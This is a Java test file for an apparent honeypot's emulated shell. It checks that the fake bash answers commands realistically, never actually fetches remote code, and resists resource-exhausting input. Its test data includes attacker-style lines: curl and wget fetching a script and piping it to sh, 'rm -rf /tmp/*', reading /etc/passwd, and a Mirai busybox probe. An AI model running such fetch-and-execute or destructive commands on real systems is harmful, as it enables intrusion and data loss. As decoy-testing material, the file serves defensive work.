package org.decnet.decoy.shell;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import java.time.Instant;
import java.util.Random;
import org.decnet.decoy.TestSite;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class FakeShellTest {
  private static final Instant NOW = Instant.parse("2026-03-04T05:06:07Z");

  private final FakeShell shell = new FakeShell(new TestSite().site().persona(), "root");

  private String run(String line) {
    return shell.run(line, NOW);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '§',
      quoteCharacter = '`',
      value = {
        "whoami§root",
        "id; id -u; true && pwd§uid=0(root) gid=0(root) groups=0(root)\\n0\\n/root",
        "echo \"a  b\" 'c;d' e\\ f§a  b c;d e f",
        "echo -e '\\x41\\102'§A\\\\102",
        "false && echo no§",
        "false || echo yes§yes",
        "true || echo no§",
        "X=5; echo $X ${X}y§5 5y",
        "echo one > /tmp/f; echo two >> /tmp/f; cat /tmp/f§one\\ntwo",
        "cat /etc/passwd 2>/dev/null | grep -c root§1",
        "cat /nope§cat: /nope: No such file or directory",
        "cd /nope§-bash: cd: /nope: No such file or directory",
        "cd /var/log/../tmp && pwd§/var/tmp",
        "nosuch§-bash: nosuch: command not found",
        "/bin/busybox MIRAI§MIRAI: applet not found",
        "sh -c 'echo in; echo $HOME'§in\\n/root",
        "echo 'echo run' > /tmp/s; sh /tmp/s; /tmp/s§run\\nrun",
        "echo hi | sh§-bash: hi: command not found",
        "rm -rf /tmp/*; mkdir /tmp/d; ls /tmp§d",
        "crontab -l§no crontab for root",
        "echo '* * * * * x' | crontab -; crontab -l§* * * * * x",
        "(echo a; echo b) | cat§a\\nb",
        "{ echo a; }; echo b§a\\nb",
        "echo $(whoami) \"$(echo in quotes)\"§root in quotes",
        "echo $(echo $(echo deep))§deep",
        "for i in 1 2 3; do echo n$i; done; echo end§n1\\nn2\\nn3\\nend",
        "if [ -f /etc/passwd ]; then echo yes; else echo no; fi§yes",
        "if false; then echo a; elif true; then echo b; else echo c; fi§b",
        "while false; do echo never; done; until true; do echo never; done; echo x§x",
        "for i in a b; do if [ $i = b ]; then echo $i; fi; done§b",
        "[ -d /tmp ] && [ ! -e /nope ] && [ 3 -gt 2 ] && [ a != b ] && test -z '' && echo all§all",
        "echo if then done§if then done",
        "echo x # not this§x"
      })
  void linesAreAnsweredAsAShellDoes(String line, String expected) {
    String wanted = expected == null ? "" : expected.replace("\\n", "\n") + "\n";
    assertThat(run(line)).isEqualTo(wanted.replace("\\\\", "\\"));
  }

  @Test
  void backQuotesHoldALineToo() {
    assertThat(run("echo `id -un` \"`echo b`\"")).isEqualTo("root b\n");
  }

  @Test
  void aTestThatIsNotClosedIsToldSo() {
    assertThat(run("[ -f /tmp")).isEqualTo("-bash: [: missing `]'\n");
  }

  @Test
  void nothingIsFetched() {
    assertThat(run("curl http://192.0.2.1/a.sh | sh"))
        .isEqualTo(
            "curl: (7) Failed to connect to 192.0.2.1 port 80 after 0 ms: Connection refused\n");
    assertThat(run("curl http://a.example/x"))
        .isEqualTo("curl: (6) Could not resolve host: a.example\n");
    assertThat(run("wget http://192.0.2.1:8080/a.sh -O /tmp/a"))
        .isEqualTo(
            """
            --2026-03-04 05:06:07--  http://192.0.2.1:8080/a.sh
            Connecting to 192.0.2.1:8080... failed: Connection refused.
            """);
    assertThat(run("wget http://192.0.2.1/a.sh && echo got")).doesNotContain("got");
    assertThat(run("ls")).isEmpty();
  }

  @Test
  void whoLeavesHasLeft() {
    run("exit; echo more");
    assertThat(shell.hasLeft()).isTrue();
  }

  @Test
  void hostileLinesEndSoonAndStaySmall() {
    assertTimeoutPreemptively(
        Duration.ofSeconds(20),
        () -> {
          String many = "echo a;".repeat(500);
          run("echo '" + many + "' > /tmp/a");
          run("echo 'sh /tmp/b; sh /tmp/b; sh /tmp/b' > /tmp/b; sh /tmp/b");
          run("cat /tmp/a /tmp/a >> /tmp/c; cat /tmp/c /tmp/c >> /tmp/c");
          for (int i = 0; i < 400; i++) {
            run("cat /tmp/c /tmp/c /tmp/c /tmp/c > /tmp/c" + i + "; cat /tmp/c" + i + " >> /tmp/c");
          }
          assertThat(run("cat /tmp/c /tmp/c")).hasSizeLessThanOrEqualTo(64 * 1024);
          Random random = new Random(3);
          String letters = "ab '\"\\$|&;<>(){}[]*?~#`\n/.-=0";
          for (int i = 0; i < 3000; i++) {
            StringBuilder line = new StringBuilder();
            for (int j = random.nextInt(60); j > 0; j--) {
              line.append(letters.charAt(random.nextInt(letters.length())));
            }
            run(line.toString());
          }
        });
  }
}
